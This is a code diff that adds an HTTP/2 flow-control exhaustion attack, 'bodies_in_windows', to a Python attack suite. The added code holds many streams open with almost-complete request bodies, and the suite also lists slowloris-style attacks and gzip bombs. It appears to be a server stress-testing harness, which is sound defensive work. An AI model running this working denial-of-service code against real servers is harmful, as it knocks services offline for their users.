@@ -227,6 +227,44 @@ def large_bodies(attacker: Attacker) -> None:
     _together(8, lambda: attacker.flood(lambda _: piece, 16, start=start))
 
 
+def bodies_in_windows(attacker: Attacker) -> None:
+    """Messages of which all but the end comes, as far as the windows of HTTP/2 allow; they are kept open."""
+    most = 2**22  # bytes of each message
+
+    def hold() -> None:
+        while attacker.going():
+            with contextlib.suppress(OSError), attacker.connect() as connection:
+                connection.settimeout(0.02)
+                left = dict.fromkeys(range(1, 33, 2), most - 1)
+                windows = dict.fromkeys((0, *left), 65535 - 5)  # 0: that of the connection
+                for stream in left:
+                    start = frame(DATA, 0, stream, struct.pack(">BI", 0, most))
+                    connection.sendall(headers(stream, head()) + start)
+                windows[0] -= 5 * len(left)
+                received = b""
+                while attacker.going():
+                    for stream in left:
+                        size = min(left[stream], windows[stream], windows[0], 16384)
+                        if size > 0:
+                            connection.sendall(frame(DATA, 0, stream, bytes(size)))
+                            attacker.sent += 1
+                            left[stream] -= size
+                            windows[stream] -= size
+                            windows[0] -= size
+                    with contextlib.suppress(TimeoutError):
+                        received += connection.recv(65536)
+                    while len(received) >= 9 and len(received) >= 9 + int.from_bytes(received[:3], "big"):
+                        end = 9 + int.from_bytes(received[:3], "big")
+                        stream = int.from_bytes(received[5:9], "big")
+                        if received[3] == WINDOW_UPDATE and stream in windows:
+                            windows[stream] += int.from_bytes(received[9:13], "big")
+                        if received[3] == RST_STREAM:
+                            left.pop(stream, None)
+                        received = received[end:]
+
+    _together(8, hold)
+
+
 def gzip_bombs(attacker: Attacker) -> None:
     """Messages that unpack to 200 MB of zeros."""
     body = framed(_bomb(), 1)
@@ -350,6 +388,7 @@ ATTACKS: dict[str, Callable[[Attacker], None]] = {
         slow_headers,
         slow_bodies,
         large_bodies,
+        bodies_in_windows,
         gzip_bombs,
         huffman,
         malformed_headers,
